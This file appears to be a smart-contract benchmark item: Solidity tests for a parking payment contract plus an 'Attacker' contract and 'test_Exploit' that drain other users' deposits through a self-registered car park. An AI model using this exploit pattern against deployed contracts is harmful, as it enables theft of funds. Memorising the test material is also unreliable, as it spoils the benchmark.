// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./ParkingAccounts.sol";

// assay-canary-8a04794c-06f0-4749-8f31-acf18f3d73dc

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Money is ERC20("Money", "MON") {
    address private maker = msg.sender;

    function mint(address receiver, uint256 amount) external {
        require(msg.sender == maker, "Only the maker mints.");
        _mint(receiver, amount);
    }
}

// A token that, in each call of the accounts that moves it, tries all calls again.
contract Hook is Money {
    address private accounts;
    bytes[] private calls;
    bool private inside;

    function add(bytes calldata data) external {
        calls.push(data);
    }

    function enter(address accounts_) external {
        accounts = accounts_;
        _approve(address(this), accounts_, uint256(-1));
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done, bytes memory reason) = accounts_.call(calls[i]);
            if (!done) {
                assembly {
                    revert(add(reason, 32), mload(reason))
                }
            }
        }
    }

    function _beforeTokenTransfer(address, address, uint256) internal override {
        if (inside) return;
        inside = true;
        bytes32 locked = keccak256(abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call"));
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done, bytes memory reason) = accounts.call(calls[i]);
            require(!done, "entered");
            require(keccak256(reason) == locked, "refused for another reason");
        }
        inside = false;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Money public money;
    ParkingAccounts private accounts;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_800_000_000);
        money = new Money();
        accounts = new ParkingAccounts(money, address(0xC0));
        vm.prank(CAT);
        accounts.registerCarPark(2e18, 20e18, 2);
        fill(ANA, 8_000e18);
        fill(BEN, 5_000e18);
        mallory = new Attacker(accounts, money);
        money.mint(address(mallory), 50e18);
    }

    function fill(address driver, uint256 amount) private {
        money.mint(driver, amount);
        vm.startPrank(driver);
        money.approve(address(accounts), amount);
        accounts.topUp(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        accounts.enter(0);
        vm.warp(block.timestamp + 1 days + 2 hours + 1);
        accounts.leave();
        require(accounts.balanceOf(ANA) == 7_974e18, "a day and three hours");
        accounts.enter(0);
        accounts.leave();
        require(accounts.balanceOf(ANA) == 7_972e18, "an hour at least");
        accounts.enter(0);
        vm.warp(block.timestamp + 23 hours);
        accounts.leave();
        require(accounts.balanceOf(ANA) == 7_952e18, "no more than a day");
        accounts.withdrawBalance(952e18);
        require(money.balanceOf(ANA) == 952e18, "withdrawn");
        vm.stopPrank();
        require(accounts.earningsOf(CAT) == 47.04e18 && accounts.companyEarnings() == 0.96e18, "earned");
        vm.prank(CAT);
        accounts.collectEarnings();
        accounts.collectCommission();
        require(money.balanceOf(CAT) == 47.04e18 && money.balanceOf(address(0xC0)) == 0.96e18, "collected");

        vm.startPrank(BEN);
        accounts.withdrawBalance(4_990e18);
        accounts.enter(0);
        vm.warp(block.timestamp + 1 days);
        accounts.leave();
        require(accounts.balanceOf(BEN) == 0 && accounts.arrearsOf(BEN, 0) == 10e18, "owes");
        money.approve(address(accounts), 30e18);
        accounts.topUp(4e18);
        accounts.payArrears(0);
        require(accounts.arrearsOf(BEN, 0) == 6e18 && accounts.totalArrearsOf(BEN) == 6e18, "owes less");
        accounts.topUp(26e18);
        accounts.payArrears(0);
        require(accounts.totalArrearsOf(BEN) == 0 && accounts.balanceOf(BEN) == 20e18, "owes nothing");
        vm.stopPrank();
        (, , , , uint256 occupied) = accounts.carParks(0);
        require(occupied == 0, "all have left");
    }

    function test_RefusesTariffs() public {
        vm.expectRevert("The daily maximum is too high.");
        accounts.registerCarPark(100e18, 1_000e18 + 1, 1);
        vm.expectRevert("An hour cannot cost more than a day.");
        accounts.registerCarPark(2e18, 1e18, 1);
        vm.expectRevert("A day cannot cost more than its hours.");
        accounts.registerCarPark(1e18, 24e18 + 1, 1);
        vm.expectRevert("The accounts need a token.");
        new ParkingAccounts(IERC20(0), CAT);
        vm.expectRevert("The commission needs a receiver.");
        new ParkingAccounts(money, address(0));
    }

    function test_RefusesDrivers() public {
        vm.startPrank(ANA);
        vm.expectRevert("The driver is not parked.");
        accounts.leave();
        vm.expectRevert("Nothing is owed to this car park.");
        accounts.payArrears(0);
        vm.expectRevert("The balance is too small.");
        accounts.withdrawBalance(8_000e18 + 1);
        accounts.enter(0);
        vm.expectRevert("The driver is parked.");
        accounts.enter(0);
        vm.expectRevert("The driver is parked.");
        accounts.withdrawBalance(1);
        vm.stopPrank();
        vm.prank(CAT);
        vm.expectRevert("The balance is too small.");
        accounts.enter(0);
        vm.prank(BEN);
        accounts.enter(0);
        fill(CAT, 5e18);
        vm.prank(CAT);
        vm.expectRevert("The car park is full.");
        accounts.enter(0);
    }

    function test_RefusesDebtors() public {
        fill(CAT, 2e18);
        vm.startPrank(CAT);
        accounts.enter(0);
        vm.warp(block.timestamp + 2 hours);
        accounts.leave();
        vm.stopPrank();
        fill(CAT, 5e18);
        vm.prank(CAT);
        vm.expectRevert("The driver owes for earlier stays.");
        accounts.enter(0);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook();
        accounts = new ParkingAccounts(hook, CAT);
        hook.mint(address(hook), 100);
        hook.add(abi.encodeWithSelector(accounts.topUp.selector, 10));
        hook.enter(address(accounts));
        hook.add(abi.encodeWithSelector(accounts.withdrawBalance.selector, 1));
        hook.add(abi.encodeWithSelector(accounts.collectEarnings.selector));
        hook.add(abi.encodeWithSelector(accounts.collectCommission.selector));
        hook.enter(address(accounts));
    }

    function exploit() public {
        mallory.park();
        vm.warp(block.timestamp + 10 days);
        mallory.collect();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 9_050e18, "no gain");
    }

    function target() public view returns (address) {
        return address(accounts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ParkingAccounts private accounts;
    IERC20 private money;

    constructor(ParkingAccounts accounts_, IERC20 money_) {
        accounts = accounts_;
        money = money_;
    }

    function park() external {
        uint256 number = accounts.registerCarPark(50e18, 1_000e18, 1);
        money.approve(address(accounts), 50e18);
        accounts.topUp(50e18);
        accounts.enter(number);
    }

    function collect() external {
        accounts.leave();
        accounts.collectEarnings();
    }
}
